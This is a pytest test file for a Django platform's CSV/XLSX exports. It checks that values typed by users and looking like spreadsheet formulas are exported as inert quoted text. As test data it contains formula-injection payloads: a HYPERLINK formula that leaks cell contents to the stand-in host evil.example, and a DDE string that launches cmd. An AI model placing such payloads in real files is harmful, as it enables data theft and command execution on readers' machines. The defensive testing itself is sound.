"""Every CSV/XLSX the platform writes is inert (security.md §5): a value someone typed that a spreadsheet program
would run as a formula reaches the reader as text, prefixed with ``'``; numbers stay numbers.

One story per export path: the dashboard tables and the records behind a figure, the forum report, the reports of
rejected rows of the three imports (roll, social-insurance file, partner outcome file), the pairs of `tamkeen link`
and `tamkeen kpi --format csv`.
"""

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tamkeen.registry.roll.apply import RollImporter
from tamkeen.registry.tests.rollfiles import household_rows, write_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
INERT = "'" + FORMULA


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes):
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def cells_of_file(path) -> list[list[str]]:
    return csv_cells(path.read_bytes())


def verified_hire(world, member, entity):
    from tamkeen.outcomes.services import outcome_report, outcome_verify

    outcome = outcome_report(
        actor=world.worker_sby, member=member, kind="hired", date=date(2025, 3, 1), entity=entity, wage=4000
    )
    outcome_verify(actor=world.worker_sby, outcome=outcome, evidence_kind="social_insurance")
    return outcome


def test_the_dashboard_tables_and_the_records_behind_a_figure_are_inert(world, client_for):
    from tamkeen.registry.models import Member

    Member.objects.filter(pk=world.head_sby.pk).update(first_name=FORMULA)
    for record in (world.employer, world.sby):
        record.name_ar = record.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
        record.save()
    verified_hire(world, world.head_sby, world.employer)
    client = client_for(world.manager)
    period = "year=1446&calendar=hijri"
    records = client.get(f"/reports/records.csv?figure=empowered_members&{period}")
    assert records["Cache-Control"] == "no-store"
    names = [row[2] for row in csv_cells(records.content)[1:]]
    assert names and all(name.startswith("'=") for name in names)
    records_xlsx = xlsx_cells(client.get(f"/reports/records.xlsx?figure=empowered_members&{period}").content)
    assert records_xlsx[1][2].data_type == "s" and records_xlsx[1][2].value.startswith("'=")
    tables = client.get(f"/reports/?{period}").context["tables"]
    exported = []
    for table in tables:
        for row in xlsx_cells(client.get(f"/reports/tables/{table.name}.xlsx?{period}").content)[1:]:
            exported.extend(cell for cell in row if cell.data_type == "s")
            assert all(cell.data_type != "f" for cell in row)
        exported_csv = csv_cells(client.get(f"/reports/tables/{table.name}.csv?{period}").content)
        assert not any(value.startswith("@") for row in exported_csv for value in row)
    assert any(cell.value == "'@SUM(1+1)*cmd|' /C calc'!A0" for cell in exported)


def test_the_forum_report_is_inert(world, client_for):
    from tamkeen.forum.models import Session
    from tamkeen.forum.tests.factories import make_forum

    forum = make_forum(world)
    now = timezone.now()
    Session.objects.create(
        event=forum.event, kind=Session.Kind.choices[0][0], title=FORMULA, room="1", starts_at=now,
        ends_at=now + timedelta(hours=1), capacity=10,
    )  # fmt: skip
    client = client_for(world.manager)
    url = reverse("forum:report_export", kwargs={"pk": forum.event.pk})
    rows = csv_cells(client.get(url, {"format": "csv"}).content)
    assert ["attendance_per_session", INERT, "0", "10"] in rows
    sheet = xlsx_cells(client.get(url, {"format": "xlsx"}).content)
    titles = [row[1] for row in sheet if row[0].value == "attendance_per_session"]
    assert titles[0].data_type == "s" and titles[0].value == INERT


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_roll_import_report_is_inert(world, tmp_path, suffix):
    rows = household_rows("700001", 2)
    rows[1]["national_id"] = "-1+2"
    rows[1]["gender"] = FORMULA
    report = tmp_path / f"report.{suffix}"
    RollImporter(write_csv(tmp_path / "roll.csv", rows), report_path=report).run()
    if suffix == "csv":
        values = [line[2] for line in cells_of_file(report)[1:]]
    else:
        cells = [line[2] for line in load_workbook(report).active.iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells)
        values = [cell.value for cell in cells]
    assert "'-1+2" in values and INERT in values


def test_the_social_insurance_import_report_is_inert(world, tmp_path):
    path = tmp_path / "gosi.csv"
    header = "رقم الهوية,رقم المنشأة,اسم المنشأة,الأجر,تاريخ الالتحاق,تاريخ الانتهاء\n"
    path.write_bytes(
        (header + f'"{FORMULA.replace(chr(34), chr(34) * 2)}",700,x,5000,2025-01-01,\n').encode()
    )
    report = tmp_path / "report.csv"
    call_command("import_employment", str(path), "--report", str(report), stdout=io.StringIO())
    assert INERT in [line[2] for line in cells_of_file(report)[1:]]


def test_the_partner_outcome_import_report_is_inert(world, tmp_path):
    path = tmp_path / "outcomes.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["referral_id", "status", "date"])
        writer.writerow([FORMULA, "accepted", "2026-11-01"])
    report = tmp_path / "report.csv"
    call_command("import_outcomes", str(path), "--report", str(report), stdout=io.StringIO())
    # The importer upper-cases referral ids; what matters is the leading quote.
    assert INERT.upper() in [line[2] for line in cells_of_file(report)[1:]]


def test_the_link_pairs_are_inert(tmp_path):
    source = tmp_path / "people.csv"
    people = [
        ["record_id", "national_id", "first_name", "father_name", "family_name", "birth_date", "phone"],
        ["=A1", "1000000008", "عبد الله", "أحمد", "الحازمي", "1985-03-04", "0501234567"],
        ["+A2", "1000000008", "عبدالله", "احمد", "الحازمى", "1985-03-04", "+966501234567"],
    ]
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(people)
    pairs = tmp_path / "pairs.csv"
    out = io.StringIO()
    call_command("link", str(source), "--output", str(pairs), stdout=out)
    assert json.loads(out.getvalue())["pairs"] == 1
    (header, row) = cells_of_file(pairs)
    assert header == ["record_id_a", "record_id_b", "match_probability"]
    assert sorted(row[:2]) == ["'+A2", "'=A1"] and float(row[2]) >= 0.9


def test_kpi_csv_is_inert(world):
    world.employer.code = "-EMP+1"
    world.employer.save()
    verified_hire(world, world.head_sby, world.employer)
    out = io.StringIO()
    call_command("kpi", "--year", "1446", "--by", "entity", "--format", "csv", stdout=out)
    keys = [row[5] for row in csv.reader(io.StringIO(out.getvalue()))][1:]
    assert "'-EMP+1" in keys
    assert all(not key.startswith(("-", "=", "+", "@")) for key in keys)
